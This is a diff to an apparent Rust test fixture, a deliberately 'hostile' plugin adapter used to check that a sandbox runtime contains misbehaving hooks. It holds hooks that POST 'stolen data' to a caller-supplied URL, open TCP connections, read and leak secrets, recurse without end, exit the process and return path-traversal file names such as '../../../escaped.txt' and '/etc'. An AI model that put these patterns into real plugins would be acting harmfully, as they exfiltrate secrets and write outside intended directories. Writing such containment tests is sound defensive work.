@@ -14,12 +14,22 @@
 //! - `flood`: logs `params.lines` lines of `params.size` bytes.
 //! - `leak`: reads its own secret `api_key` and puts it in an error message.
 //!
+//! - `recurse`: recurses without end (stack overflow).
+//! - `exit`: calls `std::process::exit`.
+//! - `escape_paths` (scaffold): files at `../`, absolute and sneaky paths.
+//! - `many_files` (scaffold): `params`-free, 10,000 files.
+//! - `catalog_escape` (pull): product definitions named `../evil` and `/etc`.
+//!
 //! Plus `ok`, a well-behaved execute hook, and a `setup` that spins (to
-//! show a setup hook is bounded the same way).
+//! show a setup hook is bounded the same way). The scaffold and pull hooks
+//! return their hostile files as data: the command that writes them must
+//! refuse them (the runtime never writes files).
 
 use meshroom_sdk::http::Request;
 use meshroom_sdk::tcp::TcpLineSender;
-use meshroom_sdk::{Adapter, Context, Error, Hook, Outcome, Result, Value, json, log};
+use meshroom_sdk::{
+    Adapter, Context, Error, File, Hook, Outcome, ProductDefinition, Result, Value, json, log,
+};
 
 struct Hostile;
 
@@ -34,13 +44,24 @@ impl Adapter for Hostile {
             Hook::execute("sleep", sleep).executor().topic("sleep"),
             Hook::execute("hog", hog).executor().topic("hog"),
             Hook::execute("panic", panic).executor().topic("panic"),
-            Hook::execute("exfiltrate", exfiltrate).executor().topic("exfiltrate"),
+            Hook::execute("exfiltrate", exfiltrate)
+                .executor()
+                .topic("exfiltrate"),
             Hook::execute("tcp", tcp).executor().topic("tcp"),
             Hook::execute("steal", steal).executor().topic("steal"),
             Hook::execute("snoop", snoop).executor().topic("snoop"),
             Hook::execute("flood", flood).executor().topic("flood"),
             Hook::execute("leak", leak).executor().topic("leak"),
-            Hook::setup("spin_setup", spin_setup).consumer().topic("events"),
+            Hook::execute("recurse", recurse)
+                .executor()
+                .topic("recurse"),
+            Hook::execute("exit", exit).executor().topic("exit"),
+            Hook::setup("spin_setup", spin_setup)
+                .consumer()
+                .topic("events"),
+            Hook::scaffold("escape_paths", escape_paths),
+            Hook::scaffold("many_files", many_files),
+            Hook::pull("catalog_escape", catalog_escape),
         ]
     }
 }
@@ -84,13 +105,19 @@ fn panic(_ctx: &Context, _params: Value) -> Result<Value> {
 }
 
 fn exfiltrate(_ctx: &Context, params: Value) -> Result<Value> {
-    let url = params.get("url").and_then(Value::as_str).unwrap_or("http://example.com/");
+    let url = params
+        .get("url")
+        .and_then(Value::as_str)
+        .unwrap_or("http://example.com/");
     let resp = Request::post(url).body("stolen data").send()?;
     Ok(json!({"status": resp.status, "body": resp.text()}))
 }
 
 fn tcp(_ctx: &Context, params: Value) -> Result<Value> {
-    let addr = params.get("addr").and_then(Value::as_str).unwrap_or("127.0.0.1:22");
+    let addr = params
+        .get("addr")
+        .and_then(Value::as_str)
+        .unwrap_or("127.0.0.1:22");
     let mut sender = TcpLineSender::connect(addr)?;
     sender.send_line(b"stolen data")?;
     Ok(json!({"sent": true}))
@@ -100,7 +127,11 @@ fn steal(_ctx: &Context, params: Value) -> Result<Value> {
     let names: Vec<String> = params
         .get("names")
         .and_then(Value::as_array)
-        .map(|a| a.iter().filter_map(|v| v.as_str().map(String::from)).collect())
+        .map(|a| {
+            a.iter()
+                .filter_map(|v| v.as_str().map(String::from))
+                .collect()
+        })
         .unwrap_or_default();
     let got: serde_json::Map<String, Value> = names
         .into_iter()
@@ -127,7 +158,10 @@ fn snoop(_ctx: &Context, _params: Value) -> Result<Value> {
 }
 
 fn flood(_ctx: &Context, params: Value) -> Result<Value> {
-    let lines = params.get("lines").and_then(Value::as_u64).unwrap_or(10_000);
+    let lines = params
+        .get("lines")
+        .and_then(Value::as_u64)
+        .unwrap_or(10_000);
     let size = params.get("size").and_then(Value::as_u64).unwrap_or(10_000) as usize;
     let line = "x".repeat(size);
     for _ in 0..lines {
@@ -141,6 +175,61 @@ fn leak(ctx: &Context, _params: Value) -> Result<Value> {
     let key = ctx.secret("api_key")?;
     log::warn(&format!("my key is {key}"));
     Err(Error::Failed(format!("leaking the key {key} in an error")))
+}
+
+#[allow(unconditional_recursion)]
+fn depth(n: u64) -> u64 {
+    // black_box keeps the recursion from being turned into a loop.
+    std::hint::black_box(depth(std::hint::black_box(n + 1))) + 1
+}
+
+fn recurse(_ctx: &Context, _params: Value) -> Result<Value> {
+    Ok(json!(depth(0)))
+}
+
+fn exit(_ctx: &Context, _params: Value) -> Result<Value> {
+    std::process::exit(3)
+}
+
+fn file(path: &str, contents: &str) -> File {
+    File {
+        path: path.into(),
+        contents: contents.as_bytes().to_vec(),
+    }
+}
+
+fn escape_paths(_ctx: &Context) -> Result<Vec<File>> {
+    Ok(vec![
+        file("README.md", "harmless"),
+        file("../../../escaped.txt", "outside the project"),
+        file("/tmp/meshroom-hostile-absolute.txt", "absolute"),
+        file("docs/../../escaped-too.txt", "sneaky"),
+        file("C:\\windows\\evil.txt", "drive path"),
+        file("", "empty name"),
+    ])
+}
+
+fn many_files(_ctx: &Context) -> Result<Vec<File>> {
+    Ok((0..10_000)
+        .map(|i| file(&format!("f/{i}.txt"), "x"))
+        .collect())
+}
+
+fn catalog_escape(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
+    Ok(vec![
+        ProductDefinition {
+            name: "../evil".into(),
+            definition: "name: evil\n".into(),
+        },
+        ProductDefinition {
+            name: "/etc".into(),
+            definition: "name: etc\n".into(),
+        },
+        ProductDefinition {
+            name: "fine_product".into(),
+            definition: "name: fine_product\n".into(),
+        },
+    ])
 }
 
 meshroom_sdk::export!(Hostile);
